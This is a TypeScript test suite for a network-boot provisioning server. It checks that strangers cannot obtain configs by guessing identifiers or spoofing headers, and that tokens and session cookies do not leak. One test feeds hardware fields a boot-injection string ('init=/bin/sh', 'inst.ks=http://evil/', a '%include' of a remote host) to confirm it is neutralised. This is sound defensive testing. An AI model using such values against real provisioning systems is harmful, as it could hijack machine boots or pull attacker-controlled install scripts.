// What a stranger on the boot network gets by guessing and by pretending, and that no secret leaves by a side door.

import t, { type Test } from 'tap'
import type { Log } from '../../../server/log.ts'
import { buildBootApp } from '../../../server/http/boot-app.ts'
import { buildControlApp } from '../../../server/http/control-app.ts'
import type { HttpDeps } from '../../../server/http/deps.ts'
import { approveMachine, rejectMachine, retireMachine } from '../../../server/provision/machines.ts'
import { latestBoot, moveBoot } from '../../../server/store/boots.ts'
import { listEvents } from '../../../server/store/events.ts'
import { getMachine, listMachines } from '../../../server/store/machines.ts'
import { later } from '../../helpers/database.ts'
import { bootUrl, createWorld, fakeAuthority, putDocuments, type World } from '../../helpers/http.ts'

const own = '192.0.2.77'
const stranger = '192.0.2.99'

async function plane(t: Test, approve: 'auto' | 'manual', deps: Partial<HttpDeps> = {}) {
  const world: World = { ...(await createWorld(t, fakeAuthority())), ...deps }
  await putDocuments(world, approve)
  const boot = await buildBootApp(world)
  const control = await buildControlApp(world, null)
  t.teardown(async () => {
    await boot.close()
    await control.close()
  })
  const get = async (url: string, remoteAddress = own, headers: Record<string, string> = {}) =>
    boot.inject({ url, remoteAddress, headers })
  return { world, get, control }
}

const configPath = (script: string) => /ignition_url=http:\/\/[^/]+(\S+)/.exec(script)?.[1] ?? null

t.test('a guessed MAC, UUID or serial gets no config', async t => {
  const { world, get } = await plane(t, 'manual')
  const { db } = world
  const nothing = async (when: string): Promise<void> => {
    const reply = await get(bootUrl(1), stranger)
    t.notMatch(reply.body, /\/b\/[0-9a-f]{32}|PRIVATE KEY|password/i, when)
    t.equal(configPath(reply.body), null, when)
  }
  await nothing('of a machine that nobody knows')
  const [machine] = await listMachines(db)
  const { id } = machine!
  await nothing('that waits for approval')
  await rejectMachine(world, id)
  await nothing('that was rejected')

  await approveMachine(world, id, {})
  const script = (await get(bootUrl(1))).body
  t.equal((await get(configPath(script)!)).statusCode, 200)
  await nothing('that has read its config')
  const boot = await latestBoot(db, id)
  await moveBoot(db, boot!.id, ['delivered'], 'confirmed', later(1))
  await nothing('whose agent has enrolled')
  await retireMachine(world, id)
  await nothing('that was retired')

  for (const url of [
    `/b/${id}/ignition.json`,
    `/b/${boot!.id}/ignition.json`,
    '/b/52-54-00-00-00-01/ignition.json',
    `/b/${'0'.repeat(32)}/ignition.json`,
    `/b/${'0'.repeat(32)}/kickstart.cfg`,
    '/ignition?mac=52-54-00-00-00-01',
    '/metadata?mac=52-54-00-00-00-01',
    '/configdata?uuid=4c4c4544-0000-1000-8000-000000000001',
    '/cblr/svc/op/ks/system/node-1',
    '/2009-04-04/user-data'
  ]) {
    const { statusCode, body } = await get(url, stranger)
    t.ok(statusCode === 404 || statusCode === 400, `${url}: ${statusCode}`)
    t.notMatch(body, /PRIVATE|node-1|worker/, url)
  }
  for (const url of ['/boot/ipxe?uuid=4c4c4544-0000-1000-8000-000000000001', '/boot/ipxe?serial=SN01']) {
    t.equal((await get(url, stranger)).statusCode, 400, url)
  }
})

t.test('headers say nothing about who calls', async t => {
  const { world, get, control } = await plane(t, 'auto')
  const claims = {
    'x-forwarded-for': '198.51.100.1',
    forwarded: 'for=198.51.100.1',
    'x-real-ip': '198.51.100.1',
    x_forwarded_for: '198.51.100.1',
    'x-rhn-provisioning-mac-0': 'eth0 52:54:00:00:00:99',
    x_rhn_provisioning_mac: 'eth0 52:54:00:00:00:99',
    'x-system-serial-number': 'ANOTHER',
    host: 'evil.example'
  }
  const script = await get(bootUrl(1), own, claims)
  t.notMatch(script.body, /evil\.example|198\.51\.100/)
  const [machine] = await listMachines(world.db)
  t.match(machine, { address: own, macs: ['52:54:00:00:00:01'], hardware: { serial: 'SN01' } })
  t.match(await latestBoot(world.db, machine!.id), { address: own })
  t.equal((await get(configPath(script.body)!, stranger, { ...claims, 'x-forwarded-for': own })).statusCode, 410)
  t.notMatch(JSON.stringify(await listEvents(world.db, { limit: 100 })), /198\.51\.100|00:99/)

  const pretended = [
    'x-remote-user',
    'remote_user',
    'remote-user',
    'x-ssl-client-verify',
    'ssl_client_cert',
    'x_authorization'
  ]
  for (const name of pretended) {
    for (const url of ['/api/v1/machines', '/agent/v1/desired']) {
      const headers = { [name]: name.includes('authorization') ? world.tokens.admin : 'admin' }
      t.equal((await control.inject({ url, headers })).statusCode, 401, `${name} ${url}`)
    }
  }
})

t.test('no secret leaves by a side door', async t => {
  const lines: string[] = []
  const keep = (event: string, fields: object = {}) => void lines.push(`${event} ${JSON.stringify(fields)}`)
  const log: Log = { debug: keep, info: keep, warn: keep, error: keep }
  const { world, get, control } = await plane(t, 'auto', { log })
  const path = configPath((await get(bootUrl(1))).body)!
  const nonce = /[0-9a-f]{32}/.exec(path)![0]
  const config = (await get(path)).body
  await get(path.replace('ignition.json', 'kickstart.cfg'))
  await get(path, stranger)
  await get(`${path}%00`)
  const [machine] = await listMachines(world.db)
  const code = world.logins.issueCode('admin')
  const headers = { host: 'x', origin: 'http://x' }
  const login = await control.inject({ method: 'POST', url: '/api/v1/session', payload: { code }, headers })
  const session = /slipway-session=([^;]+)/.exec(String(login.headers['set-cookie']))?.[1] ?? 'no session'
  t.match(config, 'ignition')
  t.not(session, 'no session')

  const told: Record<string, string> = {
    log: lines.join('\n'),
    events: JSON.stringify(await listEvents(world.db, { limit: 1000 })),
    machine: JSON.stringify(await getMachine(world.db, machine!.id))
  }
  const wrong = 'Bearer slw-0123456789abcdef-wrong-token'
  for (const list of [
    'machines',
    'boots',
    'leases',
    'events',
    'nodes',
    'profiles',
    'rules',
    'clusters',
    'facts',
    'services',
    'dhcp-servers',
    'notices'
  ]) {
    const reply = await control.inject({ url: `/api/v1/${list}`, headers: { authorization: world.tokens.admin } })
    t.equal(reply.statusCode, 200, list)
    told[list] = reply.body
    told[`${list}, refused`] = (
      await control.inject({ url: `/api/v1/${list}`, headers: { authorization: wrong } })
    ).body
  }
  told.metrics = await world.metrics.text()
  const secrets = { nonce, code, session, wrong, admin: 'admin-token', key: 'PRIVATE KEY' }
  for (const [where, text] of Object.entries(told)) {
    for (const [name, secret] of Object.entries(secrets)) t.notOk(text.includes(secret), `${name} in ${where}`)
  }
})

t.test('nothing that hardware says reaches the kernel', async t => {
  const hostile =
    'init=/bin/sh rd.break\n%pre\n%include http://evil/\r\n${shell} && reboot || ; \\\n inst.ks=http://evil/'
  const lines: string[][] = []
  for (const claims of [{}, { serial: hostile, manufacturer: hostile, product: hostile, asset: hostile }]) {
    const { get } = await plane(t, 'auto')
    const script = (await get(bootUrl(1, claims))).body
    const config = (await get(configPath(script)!)).body
    const masked = script.replaceAll(/\/b\/[0-9a-f]{32}/g, '/b/N').replaceAll(/b-[a-z0-9]{8}/g, 'b-N')
    lines.push(masked.split('\n').filter(line => /^(kernel|initrd)/.test(line)))
    t.notMatch(config, /evil|rd\.break/)
  }
  t.equal(lines[0]?.length, 2)
  t.same(lines[1], lines[0], 'word by word the same')
})

t.test('boards whose UUID or serial tells nothing are not taken for one', async t => {
  for (const uuid of [
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    '03000200-0400-0500-0006-000700080009'
  ]) {
    const { world, get } = await plane(t, 'manual')
    for (const n of [1, 2, 3]) await get(bootUrl(n, { uuid, serial: 'To Be Filled By O.E.M.' }))
    t.equal((await listMachines(world.db)).length, 3, uuid)
    await get(bootUrl(2, { uuid, serial: 'Default string' }))
    t.equal((await listMachines(world.db)).length, 3, 'and each is found again by its MAC')
  }
})
